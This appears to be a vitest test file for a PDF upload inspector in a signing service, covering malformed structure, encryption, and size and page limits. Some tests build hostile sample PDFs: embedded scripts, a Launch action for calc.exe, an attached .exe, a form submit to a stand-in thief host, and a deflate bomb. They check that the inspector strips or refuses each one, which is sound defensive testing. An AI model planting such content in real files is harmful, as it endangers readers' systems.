import { randomBytes } from 'node:crypto'
import { deflateSync } from 'node:zlib'
import { AFRelationship, degrees, PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createAuthority, makeKeys } from '../sealing/SealingAuthority'
import { sealPdf } from '../sealing/sealPdf'
import { agreement } from '../sealing/testing/agreement'
import { fillPdf } from '../filling/fillPdf'
import { fleetingFolder, judge, qpdfCheck, textOfPdf } from '../sealing/testing/tools'
import { writeFile, readFile } from 'node:fs/promises'
import type { AcceptedPdf } from './Inspection'
import { inspectionLimits, inspectPdf } from './inspectPdf'

let folder: Awaited<ReturnType<typeof fleetingFolder>>
beforeAll(async () => {
  folder = await fleetingFolder()
})
afterAll(() => folder.remove())

const onePage =
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>'

interface RawChanges {
  readonly [object: number]: string
  readonly header?: string
  readonly startxref?: number
}

/** A PDF of one page, written object by object. @param changes objects by their numbers, the header, the place of the table */
function rawPdf({ header = '%PDF-1.5\n', startxref, ...changes }: RawChanges): Buffer {
  const content = 'BT /F1 14 Tf 72 700 Td (Service agreement) Tj ET'
  const objects: Record<number, string> = {
    1: '<< /Type /Catalog /Pages 2 0 R >>',
    2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    3: onePage,
    4: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    5: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...changes,
  }
  let text = header
  const places = Object.entries(objects).map(([number, object]) => {
    const place = text.length
    text += `${number} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = text.length
  text += `xref\n0 6\n0000000000 65535 f \n${places.join('')}trailer\n<< /Root 1 0 R /Size 6 >>\n`
  return Buffer.from(`${text}startxref\n${startxref ?? table}\n%%EOF\n`, 'latin1')
}

async function accepted(bytes: Uint8Array): Promise<AcceptedPdf> {
  const inspection = await inspectPdf(bytes)
  if (!inspection.isAccepted) throw new Error(inspection.message)
  return inspection
}

/** A PDF with an owner's password and these restrictions. @param user the password to open it; empty for none */
async function protectedPdf(user: string, restrictions: readonly string[], plain?: Uint8Array): Promise<Buffer> {
  await writeFile(`${folder.path}/plain.pdf`, plain ?? (await agreement()))
  const [from, to] = [`${folder.path}/plain.pdf`, `${folder.path}/protected.pdf`]
  await judge('qpdf', ['--encrypt', user, 'owner', '256', ...restrictions, '--', from, to])
  return readFile(to)
}

describe('[D12] an uploaded PDF', () => {
  it('that only its author may change is stored as it is, and can be signed if they allow that', async () => {
    const bytes = await protectedPdf('', [])
    expect(await accepted(bytes)).toMatchObject({ removed: [], bytes: new Uint8Array(bytes) })
    const toSign = await inspectPdf(bytes, { toSign: true })
    if (!toSign.isAccepted) throw new Error(toSign.message)
    expect((await PDFDocument.load(toSign.bytes)).isEncrypted).toBe(false)
    expect(await textOfPdf(folder.path, toSign.bytes)).toContain('agreement')
  })

  it.each([
    ['a circle in its tree of pages', { 2: '<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>' }],
    ['a page that is no object of its own', { 2: `<< /Type /Pages /Kids [${onePage}] /Count 1 >>` }],
    ['empty places in its tree of pages', { 2: '<< /Type /Pages /Kids [9 0 R 3 0 R null] /Count 3 >>' }],
    ['nodes without a type', { 2: '<< /Kids [3 0 R] /Count 1 >>', 3: onePage.replace('/Type /Page ', '') }],
    ['a page in place of the tree', { 1: '<< /Type /Catalog /Pages 3 0 R >>' }],
    [
      'a tree that is no object of its own',
      { 1: '<< /Type /Catalog /Pages << /Type /Pages /Kids [3 0 R] /Count 1 >> >>' },
    ],
    ['a wrong count of pages', { 2: '<< /Type /Pages /Kids [3 0 R] /Count 7 >>' }],
    ['a wrong place of its table', { startxref: 99_999 }],
    ['a wrong header', { header: '%PDF1.5\n' }],
    ['no header', { header: '' }],
    ['a line before its header', { header: 'HTTP/1.1 200 OK\r\n\r\n%PDF-1.5\n' }],
  ])('with %s is read as readers show it', async (_, changes) => {
    const bytes = rawPdf(changes)
    for (const toSign of [false, true]) {
      const inspection = await inspectPdf(bytes, { toSign })
      if (!inspection.isAccepted) throw new Error(inspection.message)
      expect(inspection.pages).toMatchObject([{ text: 'Service agreement' }])
      const filled = await fillPdf(inspection.bytes, [
        { kind: 'text', text: 'Ana Novak', page: 1, x: 60, y: 300, width: 200, height: 20 },
      ])
      expect(await textOfPdf(folder.path, filled)).toMatch(/Service agreement[^]*Ana Novak/)
    }
  })

  it('is read: its pages, their size as shown, and their text', async () => {
    const pdf = await PDFDocument.load(await agreement(3))
    pdf.getPage(1).setRotation(degrees(90))
    pdf.getPage(2).setCropBox(50, 60, 300, 400)
    const bytes = await pdf.save()
    const { pages, removed, isSigned, bytes: stored } = await accepted(bytes)
    expect(pages.map(({ width, height }) => [width, height])).toEqual([
      [612, 792],
      [792, 612],
      [300, 400],
    ])
    expect(pages[0]!.text).toContain('Care service agreement. Page 1 of 3.')
    expect([removed, isSigned]).toEqual([[], false])
    expect(Buffer.from(stored).equals(Buffer.from(bytes))).toBe(true)
  })

  it('has the fields of its form, at their shown positions', async () => {
    const pdf = await PDFDocument.create()
    const page = pdf.addPage([400, 600])
    const form = pdf.getForm()
    const name = form.createTextField('client.name')
    name.setText('Ana Novak')
    name.enableRequired()
    name.addToPage(page, { x: 40, y: 500, width: 200, height: 24, borderWidth: 0 })
    form.createCheckBox('agrees').addToPage(page, { x: 40, y: 400, width: 16, height: 16, borderWidth: 0 })
    const { fields } = await accepted(await pdf.save())
    expect(fields).toEqual([
      {
        name: 'client.name',
        kind: 'text',
        value: 'Ana Novak',
        isRequired: true,
        isOneLine: true,
        page: 1,
        x: 40,
        y: 76,
        width: 200,
        height: 24,
      },
      {
        name: 'agrees',
        kind: 'checkbox',
        value: 'Off',
        isRequired: false,
        isOneLine: true,
        page: 1,
        x: 40,
        y: 184,
        width: 16,
        height: 16,
      },
    ])
  })
})

describe('[D12] a PDF with active content', () => {
  it('loses its scripts, launches and attached files, and keeps its pages', async () => {
    const pdf = await PDFDocument.load(await agreement())
    const { context, catalog } = pdf
    pdf.addJavaScript('greet', 'app.alert("hello from the document")')
    await pdf.attach(Buffer.from('MZ program'), 'invoice.exe', {
      mimeType: 'application/octet-stream',
      afRelationship: AFRelationship.Data,
    })
    catalog.set(
      PDFName.of('OpenAction'),
      context.register(context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe') })),
    )
    const page = pdf.getPage(0)
    page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.beep()') } }))
    const note = (A: Record<string, string | PDFString>) =>
      context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 10, 10], A }))
    page.node.set(
      PDFName.of('Annots'),
      context.obj([
        note({ S: 'URI', URI: PDFString.of('https://clinic.example') }),
        note({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }),
        note({ S: 'SubmitForm', F: PDFString.of('https://thief.example') }),
      ]),
    )
    const { bytes, removed, pages } = await accepted(await pdf.save({ useObjectStreams: false }))
    expect(removed.toSorted()).toEqual(['attached files', 'scripts and actions'])
    expect(pages[0]!.text).toContain('Care service agreement')
    const text = Buffer.from(bytes).toString('latin1')
    for (const word of ['JavaScript', 'Launch', 'calc.exe', 'invoice.exe', 'EmbeddedFile', 'SubmitForm', 'javascript:'])
      expect(text).not.toContain(word)
    expect(text).toContain('https://clinic.example')
    const { status, output } = await qpdfCheck(folder.path, bytes)
    expect(status, output).toBe(0)
    expect((await accepted(bytes)).removed).toEqual([])
  })

  it('and a signature is refused, because nothing can be removed from it', async () => {
    const pdf = await PDFDocument.load(await agreement())
    pdf.addJavaScript('greet', 'app.beep()')
    const authority = createAuthority(await makeKeys('White Glove'))
    const { bytes } = await sealPdf(await pdf.save({ useObjectStreams: false }), { authority, name: 'White Glove' })
    expect(await inspectPdf(bytes)).toMatchObject({ isAccepted: false, reason: 'signed-with-actions' })
    const harmless = await sealPdf(await agreement(), { authority, name: 'White Glove' })
    expect(await inspectPdf(harmless.bytes)).toMatchObject({ isAccepted: true, isSigned: true })
  })
})

describe('[D12] a PDF is refused, with the reason in plain words,', () => {
  it('when it opens only with a password', async () => {
    expect(await inspectPdf(await protectedPdf('secret', []))).toEqual({
      isAccepted: false,
      reason: 'encrypted',
      message: 'This PDF opens only with a password. Save a copy without one, and upload that.',
    })
  })

  it('when its author protected it against signing and it is to be signed, or when scripts can’t be taken out', async () => {
    const closed = await protectedPdf('', ['--modify=none'])
    expect(await inspectPdf(closed)).toMatchObject({ isAccepted: true })
    expect(await inspectPdf(closed, { toSign: true })).toMatchObject({ reason: 'not-to-be-signed' })
    const scripted = await PDFDocument.load(await agreement())
    scripted.addJavaScript('greet', 'app.beep()')
    const active = await protectedPdf('', ['--modify=none'], await scripted.save())
    expect(await inspectPdf(active)).toMatchObject({ reason: 'protected-with-actions' })
  })

  it('when it is damaged', async () => {
    const whole = Buffer.from(await agreement(3))
    const damaged = { isAccepted: false, reason: 'damaged', message: expect.stringContaining('This PDF is damaged') }
    expect(await inspectPdf(whole.subarray(0, 700))).toEqual(damaged)
    expect(await inspectPdf(Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(5000)]))).toEqual(damaged)
  })

  it('when it is not a PDF', async () => {
    expect(await inspectPdf(Buffer.from('PK\u0003\u0004 a document of Word'))).toMatchObject({ reason: 'not-a-pdf' })
  })

  it('when it is larger than 50 MB', async () => {
    expect(await inspectPdf(Buffer.alloc(50 * 1024 * 1024 + 1))).toEqual({
      isAccepted: false,
      reason: 'too-large',
      message: 'This PDF is larger than 50 MB. Make it smaller, or split it.',
    })
  })

  it('when it has more than 500 pages', async () => {
    const pdf = await PDFDocument.create()
    for (let number = 0; number < 501; number++) pdf.addPage([100, 100])
    expect(await inspectPdf(await pdf.save())).toMatchObject({ message: 'This PDF has more than 500 pages. Split it.' })
  })

  it('when it is a portfolio of files, or a form for Adobe Reader only', async () => {
    const portfolio = await PDFDocument.load(await agreement())
    portfolio.catalog.set(PDFName.of('Collection'), portfolio.context.obj({ Type: 'Collection' }))
    expect(await inspectPdf(await portfolio.save())).toMatchObject({ reason: 'portfolio' })
    const dynamic = await PDFDocument.load(await agreement(), { preserveXFA: true })
    dynamic.catalog.set(PDFName.of('AcroForm'), dynamic.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') }))
    expect(await inspectPdf(await dynamic.save())).toMatchObject({ reason: 'dynamic-form' })
  })

  it('when reading it exceeds the time limit', async () => {
    const inspection = await inspectPdf(await agreement(50), {
      limits: { ...inspectionLimits, milliseconds: 1, millisecondsPerPage: 0 },
    })
    expect(inspection).toMatchObject({
      reason: 'too-demanding',
      message: expect.stringContaining('takes too long or too much memory'),
    })
  })

  it('when a few bytes of it unpack to more than the memory limit', async () => {
    const limits = { ...inspectionLimits, milliseconds: 600_000, grownMegabytes: 192 }
    expect(await inspectPdf(await agreement(), { limits })).toMatchObject({ isAccepted: true })
    const packed = deflateSync(Buffer.alloc(256 * 1024 * 1024, ' '), { level: 1 })
    expect(packed.length).toBeLessThan(4 * 1024 * 1024)
    const bomb = Buffer.concat([
      Buffer.from(
        `%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`,
      ),
      packed,
      Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 2 0 R /Size 3 >>\nstartxref\n0\n%%EOF'),
    ])
    expect(await inspectPdf(bomb, { limits })).toMatchObject({ isAccepted: false, reason: 'too-demanding' })
  })
})
